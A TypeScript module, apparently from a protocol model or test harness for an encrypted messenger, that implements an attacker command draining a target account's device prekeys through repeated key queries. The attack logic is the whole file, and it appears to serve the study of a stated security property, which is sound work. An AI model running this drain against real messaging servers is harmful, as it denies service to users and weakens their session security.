/**
 * An attacker's app (property L10): it asks for the prekeys of an account's devices over and over,
 * so that nobody else gets any, and starts no session. The server cannot tell its questions from
 * those of somebody with many strangers to write to (specification 1.5).
 */

import type { Command } from '../../contract.ts';
import { deviceJid } from '../../wire/jid.ts';
import { node } from '../../wire/node.ts';
import type { Step } from '../step.ts';
import { linkStateOf } from './link-state.ts';
import { ask } from './outbound.ts';
import { deviceListOf } from './records.ts';

/** Needs a login: without one the command is refused, since nothing of it is kept. */
export function takeDrain(
  step: Step,
  { user, times }: Extract<Command, { kind: 'drain-prekeys' }>,
): void {
  if (linkStateOf(step.store).phase !== 'active') {
    return step.refuseAs('not-allowed', 'prekeys are fetched over a connection, and there is none');
  }
  const listed = deviceListOf(step, user)?.devices ?? [];
  const devices = new Set([user, ...listed.map(({ id }) => deviceJid(user, id))]);
  const users = [...devices].map((jid) => node('user', { jid }));
  for (let count = 0; count < times; count += 1) {
    const attributes = { xmlns: 'encrypt', type: 'get', id: step.freshId('drain') };
    ask(step, node('iq', attributes, [node('key', {}, users)]), { kind: 'drain' });
  }
}
